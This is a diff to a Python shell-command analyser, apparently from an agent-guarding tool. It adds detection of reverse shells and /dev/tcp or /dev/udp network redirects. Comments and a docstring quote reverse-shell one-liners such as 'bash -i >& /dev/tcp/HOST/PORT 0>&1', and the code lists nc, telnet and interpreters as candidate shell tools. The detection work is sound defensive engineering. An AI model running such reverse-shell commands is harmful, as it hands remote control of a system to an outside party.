@@ -13,16 +13,13 @@ from tree_sitter import Node
 
 from agentguard.analysis import grammar, paths
 from agentguard.analysis.grammar import node_text as _text
+from agentguard.analysis.paths import DEV_SINKS
 from agentguard.analysis.stdout import stdout_of
 from agentguard.analysis.types import Stdin, Word
 from agentguard.models import Effect, Kind
 
 if TYPE_CHECKING:
     from agentguard.analysis.shell import Walker
-
-DEV_SINKS = frozenset(
-    ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero", "/dev/random", "/dev/urandom"]
-)
 
 
 def pipeline(walker: Walker, stages: list[Node], stdin: Stdin) -> None:
@@ -49,6 +46,10 @@ def redirected_statement(walker: Walker, node: Node, stdin: Stdin) -> None:
         for redirect in redirects:
             redirect_effects(walker, redirect, _text(node))
         return
+    wire = _reverse_shell(walker, node, redirects)
+    if wire is not None:
+        walker.effects.append(_connection(wire, _text(node), shell=True))
+        return
     own_stdin = stdin_from(walker, redirects) or stdin
     if body is not None:
         if piped:  # `cat <<EOF | bash`: tree-sitter hangs the pipeline under the heredoc
@@ -70,6 +71,8 @@ def stdin_from(walker: Walker, redirects: list[Node]) -> Stdin | None:
         if redirect.type == "file_redirect" and _operator(redirect) == "<":
             dest = redirect.child_by_field_name("destination")
             word = walker.expander().expand(dest) if dest is not None else Word("", False, "?")
+            if word.known and word.text.startswith(NET_DEVICES):  # `sh < /dev/tcp/HOST/PORT`: code off the wire
+                return Stdin("network", None, word.text)
             text = walker.read_text(word.text, walker.cwd) if word.known else None
             return Stdin("file", text, word.text)
     return None
@@ -92,6 +95,33 @@ def _heredoc(walker: Walker, redirect: Node) -> Stdin:
     return Stdin("literal", grammar.unshield(text.decode("utf-8", "replace")))
 
 
+NET_DEVICES = ("/dev/tcp/", "/dev/udp/")
+
+
+def _connection(path: str, source: str, *, shell: bool = False) -> Effect:
+    host = path.split("/")[3] if path.count("/") >= 3 else "?"
+    if shell:
+        return Effect.make(Kind.NETWORK_SHELL, host, "connects a shell to a network peer", source=source,
+                           context={"host": host})  # fmt: skip
+    return Effect.make(Kind.NETWORK_SEND, host, f"opens a connection to {path}", source=source,
+                       context={"host": host})  # fmt: skip
+
+
+def _reverse_shell(walker: Walker, node: Node, redirects: list[Node]) -> str | None:
+    """`bash -i >& /dev/tcp/HOST/PORT 0>&1`: a shell whose input or output is a network connection (its path)."""
+    body = node.child_by_field_name("body")
+    if body is None or body.type != "command":
+        return None
+    words = [walker.expander().expand(c) for c in _command_words(body)]
+    name = words[0].text.rsplit("/", 1)[-1] if words and words[0].known else ""
+    from agentguard.analysis.dispatch import SHELLS
+
+    if name not in SHELLS and name not in ("python", "python3", "perl", "ruby", "php", "nc", "telnet"):
+        return None
+    targets = [_text(c).strip("'\"") for r in redirects for c in r.named_children if c.type != "file_descriptor"]
+    return next((t for t in targets if t.startswith(NET_DEVICES)), None)
+
+
 def redirect_effects(walker: Walker, redirect: Node, source: str) -> None:
     if redirect.type != "file_redirect":
         return
@@ -103,6 +133,9 @@ def redirect_effects(walker: Walker, redirect: Node, source: str) -> None:
         return
     word = walker.expander().expand(dest)
     if word.known and (word.text in DEV_SINKS or word.text.startswith("/dev/fd/")):
+        return
+    if word.known and word.text.startswith(NET_DEVICES):  # bash opens a connection: `> /dev/tcp/HOST/PORT`
+        walker.effects.append(_connection(word.text, source))
         return
     found = paths.resolve(word, walker.cwd)
     if found is None:
